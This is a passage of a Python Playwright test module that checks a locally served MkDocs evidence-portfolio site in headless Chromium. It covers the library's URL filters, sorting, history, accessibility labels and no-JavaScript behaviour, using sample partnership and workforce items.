"""The built site in a real browser: Playwright driving Debian's Chromium (`/usr/bin/chromium`).

The evidence library's filters (by URL and by clicking), Material's search, the print styles of the
accreditation pack and an axe-core audit of the main pages. One small portfolio is built and served once for the
whole module; the sample portfolio of the repository is built too, for the screenshots and the audit.

Without Chromium, Playwright or axe-core (`cd tests && npm ci`) these tests are skipped, with the reason; with
PORTFOLIO_REQUIRE_BROWSER=1 (as in CI) they fail instead.
"""

from __future__ import annotations

import contextlib
import functools
import http.server
import json
import os
import re
import sys
import threading
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest

from conftest import FRAMEWORK, MKDOCS_YML, REPOSITORY, Project

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
AXE = Path(__file__).parent / "node_modules" / "axe-core" / "axe.min.js"
SCREENSHOTS = Path(__file__).parent / "screenshots"
VIEWPORT = {"width": 1200, "height": 800}
README_IMAGES = (
    (REPOSITORY / "docs" / "images" / "home.png", {"width": 1280, "height": 900}),
    (REPOSITORY / "docs" / "images" / "home-phone.png", {"width": 390, "height": 844}),
)
"""The README's images of the sample's overview: a desktop, and a phone."""

# The word that occurs in one item's body and nowhere else (not in its title, summary, partners or tags).
UNIQUE_WORD = "zumbathon"


def unavailable(reason: str) -> None:
    """Skip, or fail where the browser tests must run (CI sets PORTFOLIO_REQUIRE_BROWSER=1)."""
    if os.environ.get("PORTFOLIO_REQUIRE_BROWSER") == "1":
        pytest.fail(f"{reason} (PORTFOLIO_REQUIRE_BROWSER=1, so the browser tests must run)", pytrace=False)
    pytest.skip(reason)


# --- The portfolio under test ----------------------------------------------------------------------------------

ITEMS: dict[str, tuple[str, str]] = {
    "partnerships/joint-bid": (
        """
        title: Joint bid with the County Active Partnership
        type: case-study
        maps_to: [partnerships/plan, partnerships/do]
        date: 2026-05-14
        summary: How a joint bid secured funding to tackle inactivity.
        partners: [County Active Partnership, NHS Trust]
        tags: [older-adults]
        visibility: public
        """,
        f"## Context\n\nThe bid paid for a weekly {UNIQUE_WORD} in three parks.\n",
    ),
    "partnerships/board-minutes": (
        """
        title: Partnership board minutes
        type: evidence
        maps_to: partnerships/do
        date: 2025-06-01
        summary: Minutes of the June board.
        partners: NHS Trust
        tags: governance
        """,
        "The board met and agreed the plan.\n",
    ),
    "partnerships/partner-survey": (
        """
        title: Annual partner survey
        type: evidence
        maps_to: partnerships/review
        date: 2024-03-10
        summary: What our partners think of working with us.
        tags: [older-adults, surveys]
        """,
        "Forty partners answered the survey.\n",
    ),
    "people/workforce-plan": (
        """
        title: Workforce plan
        type: evidence
        maps_to: people/plan
        date: 2026-02-02
        partners: Age UK
        tags: governance
        """,
        "Our plan for the workforce.\n",
    ),
    "people/coaching-award": (
        """
        title: Coaching award for the walking team
        type: celebration
        maps_to: people
        date: 2025-09-09
        partners: Age UK
        tags: awards
        """,
        "The team won the county coaching award.\n",
    ),
    "people/walking-football": (
        """
        title: Walking football for older adults
        type: case-study
        maps_to: people/plan
        date: 2025-04-04
        summary: A weekly session run with volunteers.
        partners: County Active Partnership
        tags: older-adults
        """,
        "Thirty players come every week.\n",
    ),
    "actions/review-with-partners": (
        """
        title: Review the plan with partners
        type: action
        maps_to: partnerships/review
        date: 2026-07-01
        owner: Head of Partnerships
        due: 2027-01-15
        status: planned
        """,
        "We will review the plan with our partners each year.\n",
    ),
    "assessments/partnerships-2026": (
        """
        title: Partnerships self-assessment 2026
        type: self-assessment
        challenge: partnerships
        date: 2026-10-15
        ratings:
          plan: good
          do: great
          review: fair
        """,
        "## Plan\n\n### What do we currently do\n\nWe plan with partners.\n",
    ),
}
ALL = set(ITEMS)
NO_PARTNER = {"actions/review-with-partners", "assessments/partnerships-2026", "partnerships/partner-survey"}

# A library URL query and exactly the items it shows.
QUERIES: list[tuple[str, set[str]]] = [
    ("", ALL),
    ("type=case-study", {"partnerships/joint-bid", "people/walking-football"}),
    ("type=action", {"actions/review-with-partners"}),
    ("type=self-assessment", {"assessments/partnerships-2026"}),
    (
        "type=case-study&type=celebration",
        {"partnerships/joint-bid", "people/walking-football", "people/coaching-award"},
    ),
    ("partner=NHS+Trust", {"partnerships/joint-bid", "partnerships/board-minutes"}),
    ("partner=County%20Active%20Partnership", {"partnerships/joint-bid", "people/walking-football"}),
    ("partner=Nobody+Ltd", set()),
    ("partner=nhs+trust&tag=Older-Adults", {"partnerships/joint-bid"}),  # capitals and accents are not compared
    ("type=Case-Study&challenge=People&section=PLAN", {"people/walking-football"}),
    ("challenge=people", {"people/workforce-plan", "people/coaching-award", "people/walking-football"}),
    (
        "challenge=partnerships",
        {
            "partnerships/joint-bid",
            "partnerships/board-minutes",
            "partnerships/partner-survey",
            "actions/review-with-partners",
            "assessments/partnerships-2026",
        },
    ),
    ("challenge=partnerships&section=do", {"partnerships/joint-bid", "partnerships/board-minutes"}),
    ("challenge=people&section=plan", {"people/workforce-plan", "people/walking-football"}),
    ("section=plan", {"partnerships/joint-bid", "people/workforce-plan", "people/walking-football"}),
    ("section=review", {"partnerships/partner-survey", "actions/review-with-partners"}),
    ("section=people/plan", {"people/workforce-plan", "people/walking-football"}),  # as maps_to writes it
    ("challenge=People&type=Case%20study", {"people/walking-football"}),  # by the labels the page shows
    (
        "section=Partnerships/DO&section=people/plan",
        {"partnerships/joint-bid", "partnerships/board-minutes"} | {"people/workforce-plan", "people/walking-football"},
    ),
    ("tag=older-adults", {"partnerships/joint-bid", "partnerships/partner-survey", "people/walking-football"}),
    ("tag=governance&tag=awards", {"partnerships/board-minutes", "people/workforce-plan", "people/coaching-award"}),
    ("year=2025", {"partnerships/board-minutes", "people/coaching-award", "people/walking-football"}),
    (
        "year=2024&year=2025",
        {
            "partnerships/partner-survey",
            "partnerships/board-minutes",
            "people/coaching-award",
            "people/walking-football",
        },
    ),
    ("year=2023", set()),
    ("q=walking", {"people/coaching-award", "people/walking-football"}),
    ("q=county+partnership", {"partnerships/joint-bid", "people/walking-football"}),
    ("q=WALKING%20older", {"people/walking-football"}),
    ("q=W%C3%A1lking", {"people/coaching-award", "people/walking-football"}),  # wálking: accents are ignored
    ("q=people/walking", {"people/walking-football"}),  # an item's id
    ("q=" + UNIQUE_WORD, set()),  # the library filters on title, summary, partners and tags, not on the body
    ("type=case-study&year=2026&partner=NHS+Trust", {"partnerships/joint-bid"}),
    ("tag=older-adults&year=2025&year=2024", {"partnerships/partner-survey", "people/walking-football"}),
    ("partner=Age+UK&tag=awards", {"people/coaching-award"}),
    ("challenge=people&tag=older-adults&q=football", {"people/walking-football"}),
    ("sort=title&unknown=kept", ALL),
]


def build(config_file: Path, site: Path, *, audience: str | None = None, **settings: Any) -> Path:
    """`mkdocs build` of the project at config_file into site, mkdocs.yml's `settings` given otherwise: the
    repository's sample is built this way without writing anything into the repository."""
    previous = os.environ.pop("PORTFOLIO_AUDIENCE", None)
    try:
        from mkdocs.commands.build import build as mkdocs_build
        from mkdocs.config import load_config

        if audience:
            os.environ["PORTFOLIO_AUDIENCE"] = audience
        mkdocs_build(load_config(str(config_file), site_dir=str(site), **settings))
    finally:
        os.environ.pop("PORTFOLIO_AUDIENCE", None)
        if previous is not None:
            os.environ["PORTFOLIO_AUDIENCE"] = previous
    return site


class Server:
    """The site folder over HTTP on 127.0.0.1, on a free port, in a thread."""

    def __init__(self, folder: Path) -> None:
        class Quiet(http.server.SimpleHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

        self.folder = folder
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(folder)))
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    @property
    def portfolio(self) -> dict[str, Any]:
        return json.loads((self.folder / "portfolio.json").read_text(encoding="utf-8"))

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


# --- Fixtures ----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """One headless Chromium for the module."""
    if not CHROMIUM.exists():
        unavailable(f"{CHROMIUM} is missing: install Debian's chromium package to run the browser tests")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        unavailable("the playwright package is missing: pip install 'playwright>=1.49,<2' to run the browser tests")
    with sync_playwright() as playwright:
        try:
            chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        except Exception as error:
            unavailable(f"Chromium at {CHROMIUM} did not start: {error}")
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The small portfolio above, built (internal audience: every item) and served."""
    root = tmp_path_factory.mktemp("browser") / "project"
    project = Project(root)
    project.write("framework.yml", FRAMEWORK)
    project.write("mkdocs.yml", MKDOCS_YML)
    project.write("evidence/index.md", "---\ntitle: Test portfolio overview\n---\nWelcome to the test portfolio.\n")
    for item_id, (front_matter, body) in ITEMS.items():
        project.item(f"{item_id}.md", front_matter, body)
    result = project.build()
    assert not result.failed, "\n".join([result.error, *result.log])
    server = Server(result.site)
    assert {item["id"] for item in server.portfolio["items"]} == ALL
    yield server
    server.close()


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The repository's sample portfolio, built into a temporary folder and served."""
    server = Server(build(REPOSITORY / "mkdocs.yml", tmp_path_factory.mktemp("sample") / "site"))
    yield server
    server.close()


@pytest.fixture(scope="module")
def dark(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The repository's sample portfolio in Material's dark scheme (slate)."""
    theme = {"name": "material", "custom_dir": str(REPOSITORY / "site_templates"), "font": False}
    site = tmp_path_factory.mktemp("dark") / "site"
    server = Server(build(REPOSITORY / "mkdocs.yml", site, theme={**theme, "palette": {"scheme": "slate"}}))
    yield server
    server.close()


LONG_FRAMEWORK = """\
id: long-titles
title: Partnerships, collaboration and co-production with commissioners, stakeholders and communities
rating_scale:
  - {id: unsatisfactory, label: Unsatisfactory}
  - {id: satisfactory, label: Satisfactory}
  - {id: good, label: Good}
  - {id: very-good, label: Very Good}
  - {id: excellent, label: Excellent}
sections:
  - {id: plan, label: Planning and commissioning}
  - {id: do, label: Delivering with partners}
  - {id: measure, label: Measurement and insight}
  - {id: review, label: Reviewing performance}
  - {id: impact, label: Intermediate and strategic impact}
  - {id: learn, label: Organisational learning}
rollup: median
min_evidence: 1
max_evidence_age_days: 1095
challenges:
  - id: partnerships
    title: Partnerships and collaboration with intergenerational and multidisciplinary organisations
    sections:
      plan: {question: How are partnerships planned with commissioners and neighbourhood-based organisations?}
      do: {question: How do staff co-produce interventions with multidisciplinary partners?}
      measure: {question: How is stakeholder satisfaction measured?}
      review: {question: How are partners involved in reviewing performance?}
      impact: {question: What are the intermediate and strategic outcomes?}
      learn: {question: How does the organisation learn from its partnerships?}
  - id: workforce
    title: Workforce development, volunteering and safeguarding responsibilities across all sites
    sections:
      plan: {question: How is the workforce planned?}
      do: {question: How are staff and volunteers supported?}
      review: {question: How is the workforce reviewed?}
"""
LONG_WORDS = "Intergenerational multidisciplinary neighbourhood-based co-production with commissioners"
LONG_ITEMS: dict[str, tuple[str, str]] = {
    "partnerships/plan/commissioning": (
        f"""
        title: {LONG_WORDS} and the Ashby Vale Clinical Commissioning Group's Community Wellbeing Partnership Board
        type: case-study
        maps_to: [partnerships/plan, partnerships/do, partnerships/impact, workforce/plan]
        date: 2026-05-14
        summary: {LONG_WORDS}, across every neighbourhood of the borough, with nine partners and forty volunteers.
        partners: [Ashby Vale Clinical Commissioning Group's Community Wellbeing Partnership Board, Riverside Community Housing Association]
        tags: [intergenerational-programmes, neighbourhood-based-commissioning]
        visibility: public
        """,
        "## Outcomes\n\n| Measure | Baseline (2024/25) | April to September 2026 | Target for 2027 |\n|---|---|---|---|\n"
        "| Participants from the most deprived neighbourhoods of the borough | 19% | 37% | 45% |\n"
        "| Average change in the Warwick-Edinburgh wellbeing score | +1.2 | +2.9 | +3.0 |\n",
    ),
    "partnerships/do/celebration": (
        f"""
        title: Celebrating {LONG_WORDS}
        type: celebration
        maps_to: [partnerships/do, partnerships/learn]
        date: 2026-06-01
        partners: [Ashby Vale Clinical Commissioning Group's Community Wellbeing Partnership Board]
        """,
        "We celebrated.\n",
    ),
    "partnerships/old-agreement": (
        f"""
        title: Partnership agreement on {LONG_WORDS}
        type: evidence
        maps_to: partnerships/review
        date: 2022-01-01
        """,
        "An old agreement.\n",
    ),
    "actions/overdue": (
        f"""
        title: Agree {LONG_WORDS} with every partner organisation in the borough
        type: action
        maps_to: [partnerships/review, workforce/review]
        date: 2026-01-01
        owner: Head of Partnerships, Commissioning and Intergenerational Programmes
        due: 2026-06-30
        status: in-progress
        """,
        "To do.\n",
    ),
    "assessments/partnerships-2025": (
        """
        title: Partnerships and collaboration with intergenerational and multidisciplinary organisations, 2025
        type: self-assessment
        challenge: partnerships
        date: 2025-10-01
        ratings: {plan: satisfactory, do: good, measure: unsatisfactory, review: satisfactory, impact: satisfactory, learn: unsatisfactory}
        """,
        "## Planning and commissioning\n\nWe plan.\n",
    ),
    "assessments/partnerships-2026": (
        """
        title: Partnerships and collaboration with intergenerational and multidisciplinary organisations, 2026
        type: self-assessment
        challenge: partnerships
        date: 2026-10-01
        ratings: {plan: very-good, do: excellent, measure: satisfactory, review: good, impact: very-good, learn: good}
        """,
        "## Planning and commissioning\n\nWe plan better.\n",
    ),
}


@pytest.fixture(scope="module")
def long_titles(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A portfolio of long titles, long words, long partner names, six sections and wide tables (internal)."""
    project = Project(tmp_path_factory.mktemp("long") / "project")
    project.write("framework.yml", LONG_FRAMEWORK)
    project.write("mkdocs.yml", MKDOCS_YML)
    for item_id, (front_matter, body) in LONG_ITEMS.items():
        project.item(f"{item_id}.md", front_matter, body)
    result = project.build()
    assert not result.failed, "\n".join([result.error, *result.log])
    server = Server(result.site)
    yield server
    server.close()


@pytest.fixture(scope="module")
def context(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport=VIEWPORT)
    yield context
    context.close()


@pytest.fixture
def page(context: Any) -> Iterator[Any]:
    """A fresh tab; any JavaScript error on it fails the test."""
    tab = context.new_page()
    errors: list[str] = []
    tab.on("pageerror", lambda error: errors.append(str(error)))
    yield tab
    tab.close()
    assert not errors, f"JavaScript errors: {errors}"


@pytest.fixture(scope="module")
def axe_source() -> str:
    if not AXE.exists():
        unavailable(f"{AXE} is missing: run `npm ci` in tests/ to install axe-core")
    return AXE.read_text(encoding="utf-8")


# --- Helpers -----------------------------------------------------------------------------------------------------

VISIBLE_ITEMS = """root => [...root.querySelectorAll('li[data-item]')]
    .filter(li => !li.hidden && li.getClientRects().length > 0)
    .map(li => li.dataset.item)"""


def library_url(server: Server, query: str = "") -> str:
    return server.url + server.portfolio["pages"]["library"] + (f"?{query}" if query else "")


def open_library(page: Any, server: Server, query: str = "") -> None:
    page.goto(library_url(server, query))
    page.wait_for_selector("[data-portfolio-library][data-portfolio-ready]", state="attached")


def shown(page: Any) -> list[str]:
    """The ids of the library's items a reader sees, in their order on the page."""
    return page.eval_on_selector("[data-portfolio-library]", VISIBLE_ITEMS)


def query_of(page: Any) -> list[tuple[str, str]]:
    return parse_qsl(urlsplit(page.url).query)


def field_of(item_id: str, key: str) -> str:
    """A field of an item of ITEMS, as written in its front matter."""
    lines = (line.strip() for line in ITEMS[item_id][0].splitlines())
    return next(line.split(":", 1)[1].strip() for line in lines if line.startswith(f"{key}:"))


def title_of(item_id: str) -> str:
    return field_of(item_id, "title")


def date_of(item_id: str) -> str:
    return field_of(item_id, "date")


# --- The evidence library ------------------------------------------------------------------------------------------


def test_library_unfiltered_shows_every_item_newest_first(page: Any, site: Server) -> None:
    open_library(page, site)
    ids = shown(page)
    assert sorted(ids) == sorted(ALL)
    assert [date_of(i) for i in ids] == sorted((date_of(i) for i in ids), reverse=True)
    assert page.locator("form.portfolio-filters").is_visible()
    assert page.locator("[data-count]").inner_text() == f"{len(ALL)} items"
    assert page.locator("[data-empty]").is_hidden()
    assert page.url == library_url(site)


@pytest.mark.parametrize("query, expected", QUERIES, ids=[q or "unfiltered" for q, _ in QUERIES])
def test_library_url_query(page: Any, site: Server, query: str, expected: set[str]) -> None:
    open_library(page, site, query)
    ids = shown(page)
    assert len(ids) == len(set(ids))
    assert set(ids) == expected
    filtered = any(key not in {"sort", "unknown"} for key, _ in parse_qsl(query))
    count = f"{len(expected)} of {len(ALL)} items" if filtered else f"{len(ALL)} items"
    assert page.locator("[data-count]").inner_text() == count
    assert page.locator("[data-empty]").is_visible() == (not expected)


def test_library_q_filters_without_opening_materials_search(page: Any, site: Server) -> None:
    """Material opens its search over any page whose address has `?q=`: on the library, whose own filter it is,
    nothing could be clicked under it (an outside review). The library closes it and keeps its address; the search
    still opens for `?q=` on any other page."""
    open_library(page, site, "q=walking")
    assert not page.evaluate("document.getElementById('__search').checked")
    assert page.url.endswith("?q=walking")
    page.click("[data-item]:not([hidden]) a", timeout=5000)
    assert "/people/" in page.url
    page.goto(site.url + "?q=walking")
    page.wait_for_function("document.getElementById('__search').checked")


def test_library_controls_reflect_the_query(page: Any, site: Server) -> None:
    open_library(page, site, "partner=NHS+Trust&challenge=partnerships&section=do&q=Bid&sort=title")
    assert page.input_value("#filter-partner") == "NHS Trust"
    assert page.input_value("#filter-challenge") == "partnerships"
    assert page.input_value("#filter-section") == "do"
    assert page.input_value("#filter-q") == "Bid"
    assert page.input_value("#filter-sort") == "title"
    assert page.input_value("#filter-type") == ""

    # A value the page does not offer still filters, and the control says so.
    open_library(page, site, "partner=Nobody+Ltd")
    assert shown(page) == []
    selected = page.eval_on_selector("#filter-partner", "s => s.options[s.selectedIndex].textContent")
    assert selected == "Nobody Ltd"

    # A value in other capitals is the value the page offers.
    open_library(page, site, "partner=nhs+trust&type=Case-Study")
    assert page.input_value("#filter-partner") == "NHS Trust"
    assert page.input_value("#filter-type") == "case-study"

    # A section as maps_to writes it is named as the controls name its challenge and section (it showed the id).
    open_library(page, site, "section=partnerships/do")
    selected = page.eval_on_selector("#filter-section", "s => s.options[s.selectedIndex].textContent")
    assert selected == "Partnerships \u203a Do", selected

    # Several values of one key: any of them, shown as one choice.
    open_library(page, site, "type=case-study&type=celebration")
    selected = page.eval_on_selector("#filter-type", "s => s.options[s.selectedIndex].textContent")
    assert selected == "Case study or Celebration of success"


def test_library_filters_by_clicking_and_updates_the_url(page: Any, site: Server) -> None:
    open_library(page, site)
    page.select_option("#filter-type", "case-study")
    assert set(shown(page)) == {"partnerships/joint-bid", "people/walking-football"}
    assert query_of(page) == [("type", "case-study")]

    page.select_option("#filter-partner", "NHS Trust")
    assert shown(page) == ["partnerships/joint-bid"]
    assert query_of(page) == [("type", "case-study"), ("partner", "NHS Trust")]
    assert page.locator("[data-count]").inner_text() == f"1 of {len(ALL)} items"

    page.select_option("#filter-partner", "")
    page.select_option("#filter-type", "")
    page.select_option("#filter-challenge", "partnerships")
    page.select_option("#filter-section", "do")
    assert set(shown(page)) == {"partnerships/joint-bid", "partnerships/board-minutes"}
    assert query_of(page) == [("challenge", "partnerships"), ("section", "do")]

    page.select_option("#filter-year", "2025")
    assert shown(page) == ["partnerships/board-minutes"]
    page.select_option("#filter-tag", "awards")
    assert shown(page) == []
    assert page.locator("[data-empty]").is_visible()
    assert query_of(page) == [
        ("challenge", "partnerships"),
        ("section", "do"),
        ("tag", "awards"),
        ("year", "2025"),
    ]

    # The URL now written reproduces the view in a new tab: the filtered view can be shared.
    shared = page.url
    page.get_by_role("button", name="Clear filters").click()
    assert sorted(shown(page)) == sorted(ALL)
    assert page.url == library_url(site)
    assert page.input_value("#filter-challenge") == "" and page.input_value("#filter-year") == ""
    page.goto(shared)
    assert shown(page) == []
    assert page.input_value("#filter-tag") == "awards"

    page.get_by_role("button", name="Clear filters").click()
    page.fill("#filter-q", "walking OLDER")
    assert shown(page) == ["people/walking-football"]
    assert query_of(page) == [("q", "walking OLDER")]


def test_library_sorting(page: Any, site: Server) -> None:
    open_library(page, site)
    by_title = sorted(ALL, key=lambda i: title_of(i).casefold())
    by_date = sorted(ALL, key=date_of)

    page.select_option("#filter-sort", "title")
    assert shown(page) == by_title
    assert query_of(page) == [("sort", "title")]
    page.select_option("#filter-sort", "date-asc")
    assert shown(page) == by_date
    assert query_of(page) == [("sort", "date-asc")]
    page.select_option("#filter-sort", "date-desc")
    assert shown(page) == by_date[::-1]
    assert query_of(page) == []

    open_library(page, site, "sort=title&type=evidence")
    assert shown(page) == [i for i in by_title if field_of(i, "type") == "evidence"]
    page.get_by_role("button", name="Clear filters").click()
    assert shown(page) == by_date[::-1]


def test_library_without_javascript_shows_every_item(browser: Any, site: Server) -> None:
    context = browser.new_context(java_script_enabled=False, viewport=VIEWPORT)
    try:
        page = context.new_page()
        page.goto(library_url(site, "type=case-study&partner=NHS+Trust"))
        assert sorted(shown(page)) == sorted(ALL)
        assert page.locator("form.portfolio-filters").is_hidden()
        assert page.locator("[data-empty]").is_hidden()
        # a filtered link showed every item without a word (an outside review), and then said so below them all (an
        # assessor's review): it is said above the list, with the pages that list items by partner without a script
        note = page.locator("[data-unfiltered]")
        assert note.is_visible() and note.locator('a[href$="partners/"]').count() == 1
        assert note.bounding_box()["y"] < page.locator("[data-item]").first.bounding_box()["y"]
    finally:
        context.close()


def test_a_library_items_partners_and_tags_filter_the_library(page: Any, site: Server) -> None:
    """An item's partners and tags in the library were plain text, where its panel links them to the filtered
    library (an outside review): each is a link to the library showing the items that name it."""
    open_library(page, site)
    item = page.locator('[data-item="partnerships/joint-bid"]')
    with page.expect_navigation():
        item.get_by_role("link", name="NHS Trust").click()
    assert set(shown(page)) == {"partnerships/joint-bid", "partnerships/board-minutes"}
    assert page.url.endswith("?partner=NHS%20Trust")
    with page.expect_navigation():
        page.locator('[data-item="partnerships/joint-bid"]').get_by_role("link", name="older-adults").click()
    assert set(shown(page)) == {"partnerships/joint-bid", "partnerships/partner-survey", "people/walking-football"}


def test_library_filter_controls_are_labelled(page: Any, site: Server) -> None:
    open_library(page, site)
    unlabelled = page.eval_on_selector(
        "form.portfolio-filters",
        """form => [...form.querySelectorAll('select, input, textarea')]
            .filter(c => !c.id || !form.querySelector(`label[for="${c.id}"]`)?.textContent.trim())
            .map(c => c.outerHTML)""",
    )
    assert unlabelled == []
    assert page.locator("form.portfolio-filters select, form.portfolio-filters input").count() == 8


def test_the_keyboard_sees_where_it_is_in_the_library_filters(page: Any, site: Server) -> None:
    """The words box showed no focus (Material takes its outline off; an outside review): each control reached by
    Tab is outlined."""
    open_library(page, site)
    outlined = page.eval_on_selector(
        "form.portfolio-filters",
        """form => [...form.querySelectorAll('select, input')].map(control => {
            control.focus({focusVisible: true});  // as the keyboard focuses it
            return [control.id, getComputedStyle(control).outlineStyle];
        })""",
    )
    assert outlined and all(style == "solid" for _, style in outlined), outlined


def test_partner_page_links_to_the_filtered_library(page: Any, site: Server) -> None:
    page.goto(site.url + site.portfolio["pages"]["partners"])
    # (each named after its partner, to a screen reader listing the page's links: an accessibility review)
    page.get_by_role("link", name="Show in the library the items of Age UK", exact=True).click()
    page.wait_for_selector("[data-portfolio-library][data-portfolio-ready]", state="attached")
    assert query_of(page) == [("partner", "Age UK")]
    assert set(shown(page)) == {"people/workforce-plan", "people/coaching-award"}


def test_an_items_partners_read_as_one_line_of_links(page: Any, site: Server) -> None:
    """The partners of an item's panel are links to the filtered library, written in a line as the panel's other
    facts are, not stacked in the small type of the library's filter fields."""
    page.goto(site.url + "partnerships/joint-bid/")
    links = page.locator(".portfolio-panel dd a", has_text=re.compile("County Active Partnership|NHS Trust"))
    assert links.count() == 2
    first, second = (links.nth(index).bounding_box() for index in range(2))
    assert first and second and first["y"] == second["y"] and second["x"] > first["x"] + first["width"]
    sizes = links.first.evaluate("a => [getComputedStyle(a).fontSize, getComputedStyle(a.parentElement).fontSize]")
    assert sizes[0] == sizes[1]
    assert parse_qsl(urlsplit(links.first.get_attribute("href")).query) == [("partner", "County Active Partnership")]


@pytest.fixture(scope="module")
def accents(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Partners and tags whose names differ only in accents or capitals (a review merged them in the library)."""
    project = Project(tmp_path_factory.mktemp("accents") / "project")
    project.write("framework.yml", FRAMEWORK)
    project.write("mkdocs.yml", MKDOCS_YML)
    for name, partner, tag in (("plain", "Cafe Union", "uber-tag"), ("accented", "Café Ünïon", "über-tag")):
        front_matter = f"title: {name}\ntype: evidence\nmaps_to: people/plan\ndate: 2026-02-02\n"
        project.item(f"people/{name}.md", front_matter + f'partners: ["{partner}"]\ntags: ["{tag}"]\n')
    symbols = 'title: symbols\ntype: evidence\nmaps_to: people/plan\ndate: 2026-02-02\ntags: ["\u03a9", "c++"]\n'
    project.item("people/symbols.md", symbols)
    result = project.build()
    assert not result.failed, "\n".join([result.error, *result.log])
    server = Server(result.site)
    yield server
    server.close()


def test_names_that_differ_only_in_accents_are_told_apart(page: Any, accents: Server) -> None:
    """?partner=Cafe%20Union showed both the items of "Cafe Union" and of "Café Ünïon", where the partners' page
    counts one each, and the control said "Cafe Union" for either (an outside review). A name as an item writes it
    is that name; one no item writes is still read without its capitals and accents."""
    open_library(page, accents, "partner=Cafe%20Union")
    assert shown(page) == ["people/plain"]
    assert page.input_value("#filter-partner") == "Cafe Union"
    open_library(page, accents, "partner=Caf%C3%A9%20%C3%9Cn%C3%AFon&tag=%C3%BCber-tag")
    assert shown(page) == ["people/accented"]
    assert (page.input_value("#filter-partner"), page.input_value("#filter-tag")) == ("Café Ünïon", "über-tag")


def test_a_short_value_is_not_told_it_means_a_value_of_none_of_its_letters(page: Any, accents: Server) -> None:
    """?tag=c++, its "+" read as spaces, was told "did you mean Ω?", a one-letter tag one letter from "c" (an outside
    review): a value with none of the letters written is no suggestion; one that keeps some is."""
    open_library(page, accents, "tag=c++")
    assert page.locator("[data-unread]").inner_text() == "No item has tag \u201cc\u201d (did you mean c++?)."
    open_library(page, accents, "tag=c%2B%2B")
    assert shown(page) == ["people/symbols"]
    open_library(page, accents, "partner=cafe+union")
    assert sorted(shown(page)) == ["people/accented", "people/plain"], "written as neither: both, as before"


def test_a_key_the_library_does_not_read_is_said_below_the_count(page: Any, site: Server) -> None:
    """?tags=older-adults and ?TYPE=case-study were ignored without a word, "8 items" (an outside review); a key
    nothing like the library's (?utm_source=) is no concern of it. With JavaScript, no word of the filters needing it."""
    open_library(page, site, "tags=older-adults&TYPE=case-study&utm_source=mail")
    assert sorted(shown(page)) == sorted(ALL)
    note = page.locator("[data-unread]")
    assert note.inner_text() == "Not read from the address: tags (its filter is tag); TYPE (its filter is type)."
    assert page.locator("[data-unfiltered]").count() == 0 or not page.locator("[data-unfiltered]").is_visible()
    page.select_option("#filter-type", "case-study")
    assert ("utm_source", "mail") in query_of(page) and ("type", "case-study") in query_of(page)
    open_library(page, site, "tag=older-adults")
    assert page.locator("[data-unread]").count() == 0


def test_a_value_no_item_has_is_said_with_the_choice_it_most_likely_means(page: Any, site: Server) -> None:
    """?type=case-studies showed "0 items" and "No item matches these filters", which an assessor given the link read
    as "there are none" (an assessor's review): each value no choice has is said, with the nearest choice."""
    open_library(page, site, "type=case-studies&partner=NHS+Trst&tag=zzzz")
    assert shown(page) == []
    assert page.locator("[data-unread]").inner_text() == (
        "No item has type \u201ccase-studies\u201d (did you mean Case study?); partner \u201cNHS Trst\u201d (did you "
        "mean NHS Trust?); tag \u201czzzz\u201d."
    )
    open_library(page, site, "type=Case+study&section=partnerships/do&partner=nhs+trust")
    assert page.locator("[data-unread]").count() == 0, "a label, a section of a challenge, a name in other capitals"
    open_library(page, site, "section=partnerships")  # a whole challenge, as an item's maps_to may name it
    assert page.locator("[data-unread]").count() == 0
    open_library(page, site, "section=partnership/do&year=2019")  # (a year is suggested no other: a review)
    assert page.locator("[data-unread]").inner_text() == (
        "No item has section \u201cpartnership/do\u201d; year \u201c2019\u201d."
    )


def test_back_undoes_a_choice_of_filter(page: Any, site: Server) -> None:
    """Choosing a filter replaced the address, so Back left the library altogether (an outside review): each choice
    is a step Back undoes, and the list and the controls follow it; the words box is one step, not one per letter,
    which replaced the choice before it (an assessor's review)."""
    page.goto(site.url)
    open_library(page, site)
    page.select_option("#filter-type", "case-study")
    page.select_option("#filter-partner", "NHS Trust")
    page.type("#filter-q", "bid")
    assert shown(page) == ["partnerships/joint-bid"]
    page.go_back()
    assert query_of(page) == [("type", "case-study"), ("partner", "NHS Trust")]
    assert page.input_value("#filter-q") == ""
    page.go_back()
    assert query_of(page) == [("type", "case-study")]
    assert set(shown(page)) == {"partnerships/joint-bid", "people/walking-football"}
    assert (page.input_value("#filter-type"), page.input_value("#filter-partner")) == ("case-study", "")
    page.go_back()
    assert query_of(page) == [] and sorted(shown(page)) == sorted(ALL)
    page.go_forward()
    assert set(shown(page)) == {"partnerships/joint-bid", "people/walking-football"}
    page.go_back()
    page.go_back()
    assert page.url == site.url, "the page before the library"


def test_a_challenge_page_leads_to_its_evidence_in_the_library(page: Any, site: Server) -> None:
    page.goto(site.url + site.portfolio["challenges"][0]["url"])
    page.get_by_role("link", name="Its evidence in the library").click()
    page.wait_for_selector("[data-portfolio-library][data-portfolio-ready]", state="attached")
    assert query_of(page) == [("challenge", "partnerships")]
    expected = {
        item["id"]
        for item in site.portfolio["items"]
